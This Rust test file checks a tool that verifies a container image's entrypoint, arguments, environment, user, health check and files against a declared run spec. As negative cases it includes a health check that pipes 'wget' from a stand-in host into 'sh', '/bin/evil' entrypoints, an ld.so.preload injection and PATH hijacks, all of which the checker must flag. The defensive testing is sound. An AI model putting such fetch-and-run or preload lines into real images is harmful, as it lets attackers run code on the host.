//! The image's configuration against `[run]`.

use super::build::{Build, M, layer, tar};
use super::{folder, rows, sheet};
use crate::exe::tests::elf_of;
use assize_facts::{BinarySpec, Deliverable, RunSpec};
use serde_json::{Value, json};

const CONFIG: &[u8] = b"{\"tls\": \"1.3\"}\n";

fn spec() -> Deliverable {
    Deliverable {
        binaries: vec![BinarySpec { name: "api".into(), path: "dist/api".into(), ..BinarySpec::default() }],
        run: Some(RunSpec {
            binary: "api".into(),
            args: vec!["-config".into(), "{work}/config.json".into()],
            env: [("LISTEN", "127.0.0.1:{port.public}"), ("MODE", "strict")]
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .into(),
            files: vec!["run/config.json".into(), "run/tls".into()],
            secret: vec!["KEY".into()],
            user: Some("65532".into()),
            ..RunSpec::default()
        }),
        ..Deliverable::default()
    }
}

fn good() -> Value {
    json!({
        "Entrypoint": ["/app/api"], "Cmd": ["-config", "/etc/api/config.json"], "User": "65532",
        "Env": ["PATH=/bin", "LISTEN=:8443", "MODE=strict", "KEY=hunter2"]
    })
}

fn members(api: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    vec![("app/api", api.to_vec()), ("bin/tini", elf_of(b"tini")), ("etc/api/config.json", CONFIG.to_vec())]
}

fn compared(config: Value, files: &[(&'static str, Vec<u8>)]) -> Vec<String> {
    let files: Vec<M<'_>> = files.iter().map(|(name, content)| M::File(name, content)).collect();
    compared_with(&spec(), config, &files)
}

fn compared_with(spec: &Deliverable, config: Value, files: &[M<'_>]) -> Vec<String> {
    let layers = vec![layer(files)];
    let place = folder(&[
        ("dist/api".into(), elf_of(b"api")),
        ("run/config.json".into(), CONFIG.to_vec()),
        ("run/tls/key.pem".into(), b"-----BEGIN PRIVATE KEY-----\n".to_vec()),
        ("image.tar".into(), tar(&Build::of(layers).with(config).oci())),
    ]);
    rows(&sheet(place.path(), spec, "image.manifest"), &["run_agrees", "run_differences"])
}

fn changed(key: &str, value: Value) -> Vec<String> {
    let mut config = good();
    config[key] = value;
    compared(config, &members(&elf_of(b"api")))
}

#[test]
fn the_same_run_agrees_placeholders_and_secrets_excepted() {
    assert_eq!(compared(good(), &members(&elf_of(b"api"))), ["true []"]);
    assert_eq!(changed("Env", json!(["MODE=strict", "PATH=/x"])), ["true []"]);
    assert_eq!(changed("Entrypoint", json!(["/bin/../app/api"])), ["true []"]);
}

#[test]
fn a_user_is_the_same_by_number_and_by_the_name_that_the_image_gives_it() {
    let agrees = |wanted: &str, found: &str, knows: bool| {
        let mut spec = spec();
        spec.run.iter_mut().for_each(|run| run.user = Some(wanted.into()));
        let mut config = good();
        config["User"] = json!(found);
        let api = elf_of(b"api");
        let known = [
            M::File("etc/passwd", b"root:x:0:0::/root:/bin/sh\nnonroot:x:65532:65532::/home:/sbin/nologin\n"),
            M::File("etc/group", b"root:x:0:\nnonroot:x:65532:\n"),
        ];
        let mut files = vec![M::File("app/api", &api), M::File("etc/api/config.json", CONFIG)];
        files.extend(known.into_iter().filter(|_| knows));
        compared_with(&spec, config, &files).remove(0).starts_with("true")
    };
    for (wanted, found, known, unknown) in [
        ("65532", "65532:65532", true, true),
        ("65532", "65532:0", true, true),
        ("65532", "nonroot", true, false),
        ("nonroot:nonroot", "65532:65532", true, false),
        ("65532:65532", "65532", true, false),
        ("65532:65532", "65532:0", false, false),
        ("nonroot", "nonroot:nonroot", true, true),
        ("0", "", true, true),
        ("root", "0:0", true, true),
        ("65532", "root", false, false),
        ("65532", "", false, false),
        ("nonroot", "other", false, false),
    ] {
        assert_eq!((agrees(wanted, found, true), agrees(wanted, found, false)), (known, unknown), "{wanted} {found}");
    }
}

#[test]
fn what_the_launcher_of_buildpacks_is_told_is_not_the_programs() {
    let api = elf_of(b"api");
    let launcher = elf_of(b"launcher");
    let files = [
        M::File("cnb/lifecycle/launcher", &launcher),
        M::Link("cnb/process/web", "/cnb/lifecycle/launcher"),
        M::File("workspace/api", &api),
        M::File("etc/api/config.json", CONFIG),
    ];
    let mut config = good();
    config["Entrypoint"] = json!(["/cnb/process/web"]);
    config["Env"] = json!(["CNB_LAYERS_DIR=/layers", "CNB_APP_DIR=/workspace", "MODE=strict"]);
    assert_eq!(compared_with(&spec(), config.clone(), &files), ["?image-starts-through []"]);
    config["Entrypoint"] = json!(["/workspace/api"]);
    assert!(compared_with(&spec(), config, &files)[0].contains("CNB_LAYERS_DIR"));
}

#[test]
fn every_part_that_differs_is_said() {
    let one = |key: &str, value: Value| changed(key, value).remove(0);
    assert_eq!(one("Entrypoint", json!(["/bin/tini"])), "false [\"entrypoint: /bin/tini is not the delivered api\"]");
    assert_eq!(
        one("Cmd", json!(["-config", "/etc/api/other.json"])),
        "false [\"argument 2: \\\"/etc/api/other.json\\\" instead of \\\"{work}/config.json\\\"\"]"
    );
    assert_eq!(
        one("Cmd", json!(["-config", "/etc/api/config.json", "-insecure"])),
        "false [\"argument 3: \\\"-insecure\\\" is not in [run]\"]"
    );
    assert_eq!(
        one("Env", json!(["MODE=lax", "GODEBUG=tls10server=1", "API_TOKEN=abc"])),
        "false [\"environment: MODE is \\\"lax\\\" instead of \\\"strict\\\"\",\"environment: GODEBUG is \\\"tls10server=1\\\" and not in [run]\",\"environment: API_TOKEN is (3 bytes) and not in [run]\"]"
    );
    assert_eq!(one("User", json!("root")), "false [\"user: \\\"root\\\" instead of \\\"65532\\\"\"]");
    assert_eq!(
        compared(json!({"Env": ["MODE=strict"], "User": "65532"}), &members(&elf_of(b"api")))[0].split(',').next(),
        Some("false [\"entrypoint: none\"")
    );
}

/// Whether the image's words fit the declared ones, by the program's own argument.
fn word(wanted: &str, found: &str) -> bool {
    let mut spec = spec();
    if let Some(run) = &mut spec.run {
        (run.args, run.files) = (vec![wanted.into()], vec![]);
    }
    let mut config = good();
    config["Cmd"] = json!([found]);
    compared_with(&spec, config, &[M::File("app/api", &elf_of(b"api"))]) == ["true []"]
}

#[test]
fn what_stands_for_a_placeholder_is_what_such_a_placeholder_can_be() {
    for (wanted, found) in [
        ("{port.public}", "8443"),
        ("127.0.0.1:{port.public}", ":https"),
        ("127.0.0.1:{port.public}", "[::]:8443"),
        ("--listen=:{port.public}", "--listen=0.0.0.0:443"),
        ("--listen=127.0.0.1:{port.public}", "--listen=$HOST:$PORT"),
        ("-p{port.public}", "-p443"),
        ("--db={dep.db}", "--db=postgres"),
        ("{dep.db}", "postgres://db/x"),
        ("{work}", "/srv"),
        ("{work}", "."),
        ("{work}/a", "/a"),
        ("{work}/a", "etc/a"),
        ("-c={work}/a", "-c=./a"),
        ("{work}/a", "../x/a"),
    ] {
        assert!(word(wanted, found), "{wanted} and {found}");
    }
    for (wanted, found) in [
        ("{port.public}", "--no-tls"),
        ("{port.public}", "-1"),
        ("{port.public}", "insecure"),
        ("--listen=:{port.public}", "--insecure=:443"),
        ("--listen=:{port.public}", "--listen"),
        ("-p{port.public}", "-insecure"),
        ("-p{port.public}", "-pinsecure"),
        ("{dep.db}", "--memory"),
        ("{work}", "--no-tls"),
        ("{work}", "insecure"),
        ("{work}/a", "--no-tls/a"),
        ("-c={work}/a", "-c=-x/a"),
        ("-c={work}/a", "-d=/a"),
    ] {
        assert!(!word(wanted, found), "{wanted} and {found}");
    }
}

#[test]
fn every_place_that_a_word_names_has_to_hold_the_file() {
    let api = elf_of(b"api");
    let lax: &[u8] = b"{\"tls\": \"1.0\"}\n";
    let of = |spec: &Deliverable, cmd: Value, files: &[(&'static str, &[u8])]| {
        let mut config = good();
        (config["Cmd"], config["WorkingDir"]) = (cmd, json!("/w"));
        let files: Vec<M<'_>> = files.iter().map(|(name, content)| M::File(name, content)).collect();
        compared_with(spec, config, &[&[M::File("app/api", &api)][..], &files].concat())
    };
    let good_one = ("w/etc/config.json", CONFIG);
    let relative = json!(["-config", "etc/config.json"]);
    assert_eq!(of(&spec(), relative.clone(), &[good_one]), ["true []"]);
    assert_eq!(of(&spec(), relative.clone(), &[("etc/config.json", CONFIG)]), ["?run-file-not-in-image []"]);
    let differs = ["false [\"file: /w/etc/config.json is not run/config.json\"]"];
    assert_eq!(of(&spec(), relative, &[("etc/config.json", CONFIG), ("w/etc/config.json", lax)]), differs);
    let mut twice = spec();
    if let Some(run) = &mut twice.run {
        run.args = ["-config", "{work}/config.json", "-config", "{work}/config.json"].map(str::to_owned).into();
    }
    let both = json!(["-config", "/a/config.json", "-config", "/b/config.json"]);
    assert_eq!(of(&twice, both.clone(), &[("a/config.json", CONFIG), ("b/config.json", CONFIG)]), ["true []"]);
    let differs = ["false [\"file: /b/config.json is not run/config.json\"]"];
    assert_eq!(of(&twice, both, &[("a/config.json", CONFIG), ("b/config.json", lax)]), differs);
}

#[test]
fn an_image_for_another_machine_starts_what_is_delivered_for_that() {
    let machine = |name: &[u8], number: u8| {
        let mut bytes = elf_of(name);
        bytes[18] = number;
        bytes
    };
    const AARCH64: u8 = 183;
    let binary = |name: &str, package: &str| BinarySpec {
        name: name.into(),
        path: format!("dist/{name}"),
        package: Some(package.into()),
        ..BinarySpec::default()
    };
    let of = |platform: (&'static str, &'static str), api: &[u8]| {
        let mut spec = spec();
        spec.binaries = vec![binary("api", "./api"), binary("api-arm64", "./api"), binary("other-arm64", "./other")];
        let image = Build::of(vec![layer(&[M::File("app/api", api), M::File("etc/api/config.json", CONFIG)])]);
        let place = folder(&[
            ("dist/api".into(), elf_of(b"api")),
            ("dist/api-arm64".into(), machine(b"api", AARCH64)),
            ("dist/other-arm64".into(), machine(b"other", AARCH64)),
            ("run/config.json".into(), CONFIG.to_vec()),
            ("image.tar".into(), tar(&Build { platform, ..image.with(good()) }.oci())),
        ]);
        rows(&sheet(place.path(), &spec, "image.manifest"), &["run_agrees", "run_differences"]).remove(0)
    };
    let (amd, arm) = (("linux", "amd64"), ("linux", "arm64"));
    assert_eq!(of(amd, &elf_of(b"api")), "true []");
    assert_eq!(of(arm, &machine(b"api", AARCH64)), "true []");
    let differs = r#"false ["entrypoint: /app/api is not the delivered api"]"#;
    for (platform, started) in [
        (arm, machine(b"other", AARCH64)),
        (arm, machine(b"evil", AARCH64)),
        (arm, elf_of(b"api")),
        (amd, machine(b"api", AARCH64)),
    ] {
        assert_eq!(of(platform, &started), differs);
    }
    // Where nothing is delivered for that machine.
    assert_eq!(of(("linux", "riscv64"), &machine(b"api", 243)), differs);
}

#[test]
fn what_may_not_be_executed_is_not_what_starts() {
    let (api, evil) = (elf_of(b"api"), elf_of(b"evil"));
    let of = |entrypoint: &str, mode: u32| {
        let mut config = good();
        (config["Entrypoint"], config["Env"]) = (json!([entrypoint]), json!(["PATH=/a:/b", "MODE=strict"]));
        let files = [M::Mode("a/api", &api, mode), M::File("b/api", &evil), M::File("etc/api/config.json", CONFIG)];
        compared_with(&spec(), config, &files)
    };
    assert_eq!(of("api", 0o755), ["true []"]);
    assert_eq!(of("api", 0o644), ["false [\"entrypoint: /b/api is not the delivered api\"]"]);
    assert_eq!(of("/a/api", 0o100), ["true []"]);
    assert_eq!(of("/a/api", 0o644), ["?image-program-not-executable []"]);
}

#[test]
fn a_health_check_may_start_the_delivered_program_and_known_probes() {
    for (test, outcome) in [
        (json!(["CMD", "/app/api", "-health"]), "true []"),
        (json!(["CMD-SHELL", "/app/api -health || exit 1"]), "true []"),
        (json!(["CMD-SHELL", "wget -qO- http://localhost:8443/healthz > /dev/null || exit 1"]), "true []"),
        (json!(["NONE"]), "true []"),
        (json!([]), "true []"),
        (json!(null), "true []"),
        (json!(["CMD", "/opt/other"]), "?image-health-check []"),
        (json!(["CMD-SHELL", "wget -qO- http://x.example/a | sh"]), "?image-health-check []"),
        (json!(["CMD-SHELL", "/app/api -health; /opt/other &"]), "?image-health-check []"),
    ] {
        assert_eq!(changed("Healthcheck", json!({ "Test": test })), [outcome], "{test}");
    }
}

#[test]
fn a_file_of_the_run_has_to_be_the_same_in_the_image() {
    let mut files = members(&elf_of(b"api"));
    files[2].1 = b"{\"tls\": \"1.0\"}\n".to_vec();
    assert_eq!(compared(good(), &files), ["false [\"file: /etc/api/config.json is not run/config.json\"]"]);
    files.pop();
    assert_eq!(compared(good(), &files), ["?run-file-not-in-image []"]);
    assert_eq!(changed("Volumes", json!({"/etc/api": {}})), ["?run-file-behind-volume []"]);
}

#[test]
fn the_image_has_to_start_the_delivered_binary_and_no_other_of_its_name() {
    let older = members(&elf_of(b"an older api"));
    assert_eq!(compared(good(), &older), ["false [\"entrypoint: /app/api is not the delivered api\"]"]);
    let through = changed("Entrypoint", json!(["/bin/tini", "--", "/app/api"]));
    assert_eq!(through, ["?image-starts-through []"]);
    let shell = json!(["/bin/sh", "-c", "exec /app/api -config /etc/api/config.json"]);
    let mut files = members(&elf_of(b"api"));
    files.push(("bin/sh", elf_of(b"sh")));
    let mut config = good();
    (config["Entrypoint"], config["Cmd"]) = (shell, json!(null));
    assert_eq!(compared(config, &files), ["?image-starts-through []"]);
    assert_eq!(changed("Entrypoint", json!(["/app/gone"])), ["?image-program-missing []"]);
}

#[test]
fn scripts_and_commands_of_a_shell_may_start_the_delivered_binary_and_are_not_known_to() {
    let api = elf_of(b"api");
    let script: &[u8] = b"#!/bin/sh\nexec \"$@\"\n";
    let of = |entrypoint: Value, cmd: Value, api: &[u8]| {
        let mut config = good();
        (config["Entrypoint"], config["Cmd"]) = (entrypoint, cmd);
        let files = [
            M::File("app/api", api),
            M::File("bin/sh", &elf_of(b"sh")),
            M::File("bin/gosu", &elf_of(b"gosu")),
            M::File("bin/env", &elf_of(b"env")),
            M::File("bin/tini", &elf_of(b"tini")),
            M::File("bin/nice", &elf_of(b"nice")),
            M::File("bin/timeout", &elf_of(b"timeout")),
            M::File("bin/chpst", &elf_of(b"chpst")),
            M::File("bin/setsid", &elf_of(b"setsid")),
            M::File("bin/setpriv", &elf_of(b"setpriv")),
            M::File("bin/evil", &elf_of(b"evil")),
            M::File("entrypoint.sh", script),
            M::Mode("start", b"exec /app/api\n", 0o644),
            M::File("etc/api/config.json", CONFIG),
        ];
        compared_with(&spec(), config, &files)
    };
    let words = json!(["-config", "/etc/api/config.json"]);
    for (entrypoint, cmd) in [
        (json!(["/entrypoint.sh"]), words.clone()),
        (json!(["/entrypoint.sh"]), json!([])),
        (json!(["/entrypoint.sh", "/app/api"]), words.clone()),
        (json!(["tini", "--", "/entrypoint.sh"]), json!(["/app/api", "-config", "/etc/api/config.json"])),
        (json!(["/bin/sh", "-c", "exec /app/api -config \"$CONFIG\""]), json!([])),
        (json!(["/bin/sh", "-c", "/app/api -config /etc/api/config.json && true"]), json!(null)),
        (json!(["/bin/sh", "-ec", "exec /app/api -config $CONFIG"]), json!([])),
        (json!(["/bin/sh", "-lc", "/app/api -config /etc/api/config.json"]), json!([])),
        (json!(["/bin/sh", "/start"]), json!([])),
        (json!(["gosu", "65532", "/app/api"]), words.clone()),
        (json!(["tini", "--", "/app/api"]), words.clone()),
        (json!(["env", "A=1", "/app/api"]), words.clone()),
        (json!(["env", "-u", "B", "-i", "A=1", "/app/api"]), words.clone()),
        (json!(["env", "-S", "/app/api -config /etc/api/config.json"]), json!([])),
        (json!(["env", "-iS", "A=1 nice /app/api"]), words.clone()),
        (json!(["env", "--split-string=nice -n 5 /app/api", "-config"]), json!(["/etc/api/config.json"])),
        (json!(["nice", "-n", "5", "/app/api"]), words.clone()),
        (json!(["nice", "-5", "/app/api"]), words.clone()),
        (json!(["timeout", "-k", "5", "--signal=INT", "1d", "/app/api"]), words.clone()),
        (json!(["chpst", "-u", "nobody", "-P", "/app/api"]), words.clone()),
        (json!(["setsid", "-w", "/app/api"]), words.clone()),
        (json!(["tini", "-p", "SIGTERM", "-g", "--", "/app/api"]), words.clone()),
        (json!(["setpriv", "--reuid", "65532", "--clear-groups", "nohup", "/app/api"]), words.clone()),
    ] {
        assert_eq!(of(entrypoint.clone(), cmd, &api), ["?image-starts-through []"], "{entrypoint}");
    }
    // An argument of the program is no command for a shell.
    let short = of(json!(["tini", "--", "/app/api", "-c", "/etc/api/config.json"]), json!([]), &api);
    assert!(short[0].starts_with("false [\"argument 1: \\\"-c\\\""), "{short:?}");
    // What a script is given is known where it is given the program.
    let given = of(json!(["/entrypoint.sh", "/app/api", "-insecure"]), words.clone(), &api);
    assert!(given[0].starts_with("false [\"argument 1"), "{given:?}");
    for entrypoint in [
        json!(["/bin/sh", "-c", "exec /bin/evil; true"]),
        json!(["/bin/sh", "-c", "/bin/evil"]),
        json!(["tini", "--", "/bin/evil"]),
        json!(["timeout", "1d", "/bin/evil", "/app/api"]),
        json!(["nice", "-n", "/app/api", "/bin/evil"]),
        json!(["env", "-S", "/bin/evil /app/api"]),
        json!(["/bin/evil", "/app/api"]),
    ] {
        let said = of(entrypoint.clone(), words.clone(), &api);
        assert!(said[0].starts_with("false [\"entrypoint: "), "{entrypoint}: {said:?}");
    }
    let other = of(json!(["/entrypoint.sh"]), words, &elf_of(b"an older api"));
    assert_eq!(other, ["false [\"entrypoint: /entrypoint.sh is not the delivered api\"]"]);
}

#[test]
fn what_a_container_has_mounted_over_is_not_there_when_it_runs() {
    let (api, evil) = (elf_of(b"api"), elf_of(b"evil"));
    let of = |path: &str, entrypoint: &str, more: &[M<'_>]| {
        let mut config = good();
        (config["Entrypoint"], config["Env"]) = (json!([entrypoint]), json!([path, "MODE=strict"]));
        config["WorkingDir"] = json!("/w");
        let files = [M::File("b/api", &evil), M::File("etc/api/config.json", CONFIG)];
        compared_with(&spec(), config, &[&files[..], more].concat())
    };
    let evil_starts = ["false [\"entrypoint: /b/api is not the delivered api\"]"];
    for folder in ["dev/shm", "proc/self", "sys"] {
        let place = format!("{folder}/api");
        assert_eq!(of(&format!("PATH=/{folder}:/b"), "api", &[M::File(&place, &api)]), evil_starts, "{folder}");
    }
    let through = [M::Link("a", "/proc/self/root/b"), M::Link("proc/self/root", "/good"), M::File("good/b/api", &api)];
    assert_eq!(of("PATH=/a:/b", "api", &through), evil_starts);
    assert_eq!(of("PATH=/x", "/a/api", &through), ["?image-program-missing []"]);
    // Folders that do not begin at the root begin at the working directory.
    let both = [M::File("w/bin/api", &evil), M::File("bin/api", &api), M::File("api", &api), M::File("w/api", &evil)];
    for path in ["PATH=bin:/bin", "PATH=:/bin"] {
        assert!(of(path, "api", &both)[0].starts_with("false [\"entrypoint: /w/"), "{path}");
    }
    let preload = [M::File("good/api", &api), M::File("etc/ld.so.preload", b"/lib/evil.so\n")];
    assert_eq!(of("PATH=/x", "/good/api", &preload), ["false [\"file: /etc/ld.so.preload preloads libraries\"]"]);
}

#[test]
fn secrets_of_an_image_stay_out_of_the_facts() {
    let place = folder(&[(
        "image.tar".into(),
        tar(&Build::of(vec![layer(&[])]).with(json!({"Env": ["KEY=hunter2", "DB_PASSWORD=swordfish", "A=1"]})).oci()),
    )]);
    let manifests = sheet(place.path(), &spec(), "image.manifest");
    assert_eq!(rows(&manifests, &["env"]), ["[\"KEY=(7 bytes)\",\"DB_PASSWORD=(9 bytes)\",\"A=1\"]"]);
}
